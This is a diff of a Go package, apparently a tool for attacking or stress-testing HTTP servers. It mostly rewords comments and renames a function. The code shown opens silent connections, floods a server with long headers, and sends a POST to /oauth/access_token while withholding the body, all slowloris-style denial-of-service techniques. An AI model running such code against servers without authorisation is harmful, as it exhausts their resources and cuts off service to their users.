@@ -22,13 +22,13 @@ import (
 
 // Target is the server to attack.
 type Target struct {
-	// Addr is the server's, as host:port.
+	// Addr is the address of the server, as host:port.
 	Addr string
-	// From is the local address of connections; empty is the default of the machine.
+	// From is the local IP address of connections; empty is the default of the machine.
 	From string
-	// TLS is whether the server uses https, which HTTP/2 needs.
+	// TLS says that the server uses https. HTTP/2 needs it.
 	TLS bool
-	// Host is the host of requests; "x" if empty.
+	// Host is the host in requests; empty is "x".
 	Host string
 }
 
@@ -41,14 +41,15 @@ type Conn struct {
 	framer *http2.Framer
 	block  bytes.Buffer
 	enc    *hpack.Encoder
-	stream uint32 // number of the next one
+	stream uint32 // number of the next stream
 	mute   bool   // send no more frames, which would end the attack
 }
 
 // Done is closed once the server has ended the connection.
 func (c *Conn) Done() <-chan struct{} { return c.done }
 
-// dial connects. A buffer of 0 bytes is the default of the machine.
+// dial connects. buffer is the size of the socket's buffer in bytes; 0 is the default of
+// the machine.
 func (t Target) dial(buffer int) (net.Conn, error) {
 	d := net.Dialer{Timeout: 30 * time.Second}
 	if t.From != "" {
@@ -97,8 +98,8 @@ func Silent(t Target) (*Conn, error) {
 	return watched(c), nil
 }
 
-// Says sends a text over a connection of HTTP/1.1.
-func Says(t Target, text string) (*Conn, error) {
+// SendText sends a text over a connection of HTTP/1.1.
+func SendText(t Target, text string) (*Conn, error) {
 	c, err := t.connect("http/1.1", 0)
 	if err != nil {
 		return nil, err
@@ -117,15 +118,15 @@ func Headers(t Target, n, size int) (*Conn, error) {
 		name := fmt.Sprintf("%x:", i)
 		b.WriteString(name + strings.Repeat("v", max(size-len(name)-2, 0)) + "\r\n")
 	}
-	return Says(t, b.String())
+	return SendText(t, b.String())
 }
 
 // Body sends a request without its body.
 func Body(t Target) (*Conn, error) {
-	return Says(t, "POST /oauth/access_token HTTP/1.1\r\nHost: "+t.host()+"\r\nContent-Length: 10\r\n\r\n")
+	return SendText(t, "POST /oauth/access_token HTTP/1.1\r\nHost: "+t.host()+"\r\nContent-Length: 10\r\n\r\n")
 }
 
-// watched discards what the server sends until it ends the connection.
+// watched starts to discard what the server sends, until it ends the connection.
 func watched(c net.Conn) *Conn {
 	w := &Conn{Conn: c, done: make(chan struct{})}
 	go func() {
